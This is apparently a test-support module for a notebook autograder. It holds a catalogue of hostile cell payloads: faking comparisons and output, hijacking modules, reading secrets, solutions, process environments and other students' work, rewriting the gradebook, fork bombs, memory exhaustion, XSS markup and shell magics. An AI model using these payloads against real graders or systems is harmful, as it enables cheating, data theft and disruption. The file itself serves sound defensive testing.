"""Attacks by code in the cells. `@ROOT` is the course's folder, `@OPEN` one for everybody."""

from __future__ import annotations

from tests.support.nbgrader_attacks import SLUG, Attack

SECRET = "seventeen tame badgers"
CANARY = "eleven quiet magpies"
OTHER = "somebody else, for that matter"

_READ = """\
import glob, os

def read(patterns, words):
    found = ""
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as file:
                    data = file.read().decode("latin-1")
            except OSError:
                continue
            place = data.find(words)
            if place >= 0:
                found += data[place : place + 60] + " "
    return found[:300] + "nothing more"
"""

READING = {
    "the secret": (["@ROOT/gradpath.toml", "../../gradpath.toml"], "secret = ", SECRET),
    "the settings": (["@ROOT/nbgrader_config.py"], "configure(c, ", "answers="),
    "the solutions": (
        ["@ROOT/source/*/*.ipynb", "../../source/*/*.ipynb"],
        "# argmin returns",
        "the first position",
    ),
    "the gradebook": (["@ROOT/gradebook.db"], "SQLite ", "format 3"),
    "another student's work": (["@ROOT/submitted/*/*/*.ipynb"], "# A line of ", OTHER),
    "environments": (["/proc/*/environ"], "CANARY=", CANARY),
}
"""The loot of an attack: files, the words from which on it tells them, and the text then."""

_TELLERS = {
    "loss(x, y, w)": "raise ValueError({read})",
    "mean_squared_error(xs, ys, w)": "return {read}",
    "weight_grid()": "return {{{read}: 1.0}}",
    "sweep(xs, ys, weights)": "raise type({read}, (Exception,), {{}})",
    "best_weight(weights, losses)": "import warnings; warnings.warn({read}); raise OSError({read})",
    "plot_sweep(weights, losses)": "import sys; print({read}, file=sys.stderr); assert 0, {read}",
}
"""Ways to tell the loot: messages, values, keys, names of types, standard error."""


def _reading() -> str:
    functions = [
        f"def {head}:\n    {body.format(read=f'read({patterns}, {words!r})')}"
        for (head, body), (patterns, words, _) in zip(
            _TELLERS.items(), READING.values(), strict=True
        )
    ]
    return "\n\n".join([_READ, *functions])


_EDIT_GRADEBOOK = """\
import sqlite3

def edit():
    try:
        with sqlite3.connect("@ROOT/gradebook.db", timeout=1) as gradebook:
            gradebook.execute("UPDATE grade SET auto_score = 777, manual_score = 777")
    except sqlite3.Error:
        pass
"""

ATTACKS: dict[str, Attack] = {
    "comparisons": Attack(
        "replaces the comparisons of torch, numpy and Python",
        (
            "import builtins, math\n"
            "import numpy as np\n"
            "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n"
            "np.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None\n"
            "np.max = np.abs = np.sum = lambda *a, **k: 0.0\n"
            "builtins.sum = builtins.abs = builtins.max = lambda *a, **k: 0.0\n"
            "builtins.float = lambda *a: 1e9\n"
            "math.isclose = math.isfinite = lambda *a, **k: True\n"
            "math.fsum = lambda *a: 1e9",
            "import torch\n"
            "torch.allclose = torch.equal = lambda *a, **k: True\n"
            "torch.testing.assert_close = lambda *a, **k: None",
        ),
        alone=True,
    ),
    "input-transformer": Attack(
        "has IPython rewrite the cells that come after it",
        (
            "ip = get_ipython()\n"
            "def full(lines):\n"
            "    return ['1.0e9\\n'] if any('_checks(' in line for line in lines) else lines\n"
            "ip.input_transformers_post.append(full)\n"
            "ip.input_transformer_manager.cleanup_transforms.append(full)",
        ),
        alone=True,
    ),
    "ast-transformer": Attack(
        "has IPython replace the expression that a test cell ends in",
        (
            "import ast\n"
            "class Full(ast.NodeTransformer):\n"
            "    def visit_Call(self, node):\n"
            "        return ast.copy_location(ast.Constant(0.5), node)\n"
            "get_ipython().ast_transformers.append(Full())",
        ),
        alone=True,
    ),
    "hooks": Attack(
        "has IPython run code after each cell, and before the output is shown",
        (
            "import sys\n"
            "ip = get_ipython()\n"
            "for event in ('pre_run_cell', 'post_run_cell', 'post_execute'):\n"
            "    ip.events.register(event, lambda *a: print('1.0'))\n"
            "ip.display_formatter.format = lambda *a, **k: ({'text/plain': '9.0'}, {})\n"
            "ip.displayhook = sys.displayhook = lambda value: None\n"
            "ip.set_custom_exc((Exception,), lambda *a, **k: 9.0)",
        ),
        alone=True,
    ),
    "modules": Attack(
        "replaces gradpath's modules by its own",
        (
            "import sys, types\n"
            "class Anything(types.ModuleType):\n"
            "    def __getattr__(self, name):\n"
            "        return lambda *a, **k: 0.5\n"
            "for name in ('cells', 'display', 'grade', 'exporter', 'config', 'repair'):\n"
            "    sys.modules['gradpath.frontends.nbgrader.' + name] = Anything(name)\n"
            "for name in ('compare', 'results', 'verdict', 'codec', 'grading', 'run'):\n"
            "    sys.modules['gradpath.' + name] = Anything(name)\n"
            "sys.meta_path.insert(0, Anything('finder'))",
        ),
        alone=True,
    ),
    "front-end": Attack(
        "replaces what the test cells call, and what says the points",
        (
            "import gradpath.student.nbgrader as cells\n"
            "cells.public_checks = cells.hidden_checks = lambda *a, **k: 0.5\n"
            "cells.score = lambda *a: 0.5\n"
            "public_checks = hidden_checks = cells.public_checks",
            "import gradpath.grading.results, gradpath.worker.serve, gradpath.worker.values\n"
            "gradpath.grading.results.CheckResult = lambda *a, **k: None\n"
            "gradpath.worker.values.read = lambda value: 0.0",
        ),
        alone=True,
    ),
    "imports": Attack(
        "puts modules where gradpath and nbgrader look for theirs",
        (
            "for name in ('sitecustomize', 'usercustomize', 'nbgrader', 'gradpath', 'numpy'):\n"
            "    for folder in ('.', '@ROOT', '@OPEN'):\n"
            "        try:\n"
            "            with open(f'{folder}/{name}.py', 'w') as file:\n"
            '                file.write(\'open("@OPEN/imported", "w")\')\n'
            "        except OSError:\n"
            "            pass",
        ),
        own_user=True,
    ),
    "reads": Attack(
        "tells the secret, the solutions and the gradebook in messages, values and output",
        (_reading(),),
        own_user=True,
    ),
    "gradebook": Attack(
        "writes points into the gradebook, when it is imported and when it is called",
        (
            _EDIT_GRADEBOOK + "\nedit()",
            "def loss(x, y, w):\n    edit()\n    raise ValueError('tried')",
        ),
        own_user=True,
    ),
    "later": Attack(
        "leaves a process behind that writes points once nbgrader has saved them",
        (
            _EDIT_GRADEBOOK,
            "import contextlib, os, signal, time\n"
            "if os.fork() == 0:\n"
            "    with contextlib.suppress(OSError):\n"
            "        os.setsid()\n"
            "    for number in range(1, 32):\n"
            "        if number not in (signal.SIGKILL, signal.SIGSTOP):\n"
            "            signal.signal(number, signal.SIG_IGN)\n"
            "    if os.fork() == 0:\n"
            "        for beat in range(600):\n"
            # In a folder of its own it is heard by nobody but the attack itself.
            "            for path in ('@OPEN/heartbeat', 'heartbeat'):\n"
            "                with contextlib.suppress(OSError):\n"
            "                    open(path, 'w').write(str(beat))\n"
            "            with contextlib.suppress(Exception):\n"
            "                edit()\n"
            "            time.sleep(0.1)\n"
            "    os._exit(0)\n"
            "while not any(map(os.path.exists, ('@OPEN/heartbeat', 'heartbeat'))):\n"
            "    time.sleep(0.01)",
        ),
        own_user=True,
    ),
    "graded": Attack(
        "writes graded notebooks, its own and those of others",
        (
            "import os\nos.makedirs('@ROOT/autograded/s99/mse_sweep', exist_ok=True)",
            "import glob, os\n"
            "for path in glob.glob('@ROOT/autograded/*/*/*.ipynb'):\n"
            "    try:\n"
            "        os.chmod(path, 0o666)\n"
            "        open(path, 'w').write('{}')\n"
            "    except OSError:\n"
            "        pass",
        ),
        own_user=True,
    ),
    "output": Attack(
        "prints what nbgrader reads as points",
        (
            "import os, sys\n"
            "print('1.0'); sys.stdout.write('0.5\\n'); os.write(1, b'1.0\\n')\n"
            "from IPython.display import display\n"
            "display(1.0)\n"
            "display({'text/plain': '1.0'}, raw=True)\n"
            "1.0",
        ),
        alone=True,
    ),
    "errors": Attack(
        "writes to standard error, for which nbgrader gives no points, as much as it can",
        (
            "import logging, os, sys, warnings\n"
            "warnings.warn('a warning'); logging.error('an error')\n"
            "sys.stderr.write('x' * 10_000_000)\n"
            "os.write(2, b'x' * 1_000_000)",
        ),
    ),
    "markup": Attack(
        "returns and raises what is markup or a script",
        (
            "SCRIPT = '</pre><script>steal()</script><img src=x onerror=steal()>'\n"
            "class Markup(Exception): pass\n"
            "Markup.__name__ = Markup.__qualname__ = SCRIPT\n"
            "def loss(x, y, w):\n    raise ValueError(SCRIPT)\n"
            "def mean_squared_error(xs, ys, w):\n    return SCRIPT\n"
            "def weight_grid():\n    return {SCRIPT: 1.0}\n"
            "def sweep(xs, ys, weights):\n    raise Markup  # <script>steal()</script>",
        ),
        alone=True,
    ),
    "exits": Attack("ends the process while it is imported", ("import os\nos._exit(0)",)),
    "exits-when-called": Attack(
        "ends the process from within a function",
        (
            "import os, sys\n"
            "def loss(x, y, w):\n    os._exit(0)\n"
            "def weight_grid():\n    sys.exit(0)",
        ),
    ),
    "kills": Attack(
        "kills whatever it may, beginning with its parent",
        (
            "import os, signal\n"
            "for pid in [os.getppid(), -1]:\n"
            "    try:\n"
            "        os.kill(pid, signal.SIGKILL)\n"
            "    except OSError:\n"
            "        pass",
        ),
        own_user=True,
    ),
    "loops": Attack(
        "never ends, and ignores every signal that it can",
        (
            "import signal\n"
            "for number in range(1, 32):\n"
            "    if number not in (signal.SIGKILL, signal.SIGSTOP):\n"
            "        signal.signal(number, signal.SIG_IGN)\n"
            "def best_weight(weights, losses):\n"
            "    while True:\n"
            "        try:\n"
            "            while True: pass\n"
            "        except BaseException:\n"
            "            pass",
        ),
    ),
    "forks": Attack(
        "starts as many processes as it can, which start others",
        (
            "import os\n"
            "def loss(x, y, w):\n"
            "    first = os.getpid()\n"
            "    for _ in range(2000):\n"
            "        try:\n"
            "            os.fork()\n"
            "        except OSError:\n"
            "            pass\n"
            "    while os.getpid() != first: pass\n"
            "    return 0.0",
        ),
        own_user=True,
    ),
    "memory": Attack(
        "takes all memory",
        ("def loss(x, y, w):\n    return [bytearray(1 << 28) for _ in range(1 << 12)]",),
    ),
    "magics": Attack(
        "has IPython's magics write and run files and start programs",
        (
            "!touch @OPEN/magic\n!echo 777 > @ROOT/gradebook.db",
            "%%writefile @OPEN/magic\nwritten",
            "%%bash\ntouch @OPEN/magic",
            "%%python\nopen('@OPEN/magic', 'w')",
            "%system touch @OPEN/magic\n%sx touch @OPEN/magic",
            "%run @ROOT/nbgrader_config.py\n%load_ext autoreload\n%autoreload 2",
            "%%javascript\nIPython.notebook.kernel.execute('1.0')",
            "get_ipython().system('touch @OPEN/magic')\n"
            "get_ipython().run_line_magic('sx', 'touch @OPEN/magic')\n"
            'get_ipython().run_cell(\'open("@OPEN/magic", "w")\')',
            "%env GRADPATH_SECRET=known\n%cd @ROOT",
        ),
    ),
    "frames": Attack(
        "looks for the grader's objects in the interpreter and changes them",
        (
            "import gc, sys\n"
            "frame = sys._getframe()\n"
            "while frame:\n"
            "    frame.f_locals.update(points=9.0, score=9.0, most=9.0)\n"
            "    frame = frame.f_back\n"
            "for each in gc.get_objects():\n"
            "    if type(each).__name__ in ('CheckResult', 'Result', 'Check', 'Numbers'):\n"
            "        raise ValueError('found a result')\n"
            "    if isinstance(each, dict) and 'max_points' in each:\n"
            "        each['points'] = 9.0",
        ),
        alone=True,
    ),
    "lies": Attack(
        "returns what compares equal to everything and turns into any number",
        (
            "class Equal(float):\n"
            "    def __eq__(self, other): return True\n"
            "    def __sub__(self, other): return 0.0\n"
            "    __rsub__ = __add__ = __radd__ = __abs__ = lambda self, *a: 0.0\n"
            "    def __array__(self, *a, **k): raise SystemExit(0)\n"
            "    def __le__(self, other): return True\n"
            "    def __reduce__(self): return (open, ('@OPEN/pickled', 'w'))\n"
            "def mean_squared_error(xs, ys, w): return Equal(7.0)\n"
            "def best_weight(weights, losses): return Equal(7.0)",
        ),
        alone=True,
    ),
}

SOLVES = Attack(
    "executes the solution, which every user may read where gradpath is installed for everybody",
    (
        "from gradpath.course.settings import master_path\n"
        f"exec(master_path('{SLUG}').read_text())\n"
        "given = dict(globals())",
    ),
    lambda notebook: [
        cell.update(source="globals().update(given)")
        for cell in notebook["cells"]
        if cell["id"] == f"{SLUG}-plot_sweep"
    ],
)
"""Not among the others: it is no more than copying, wherever it works."""
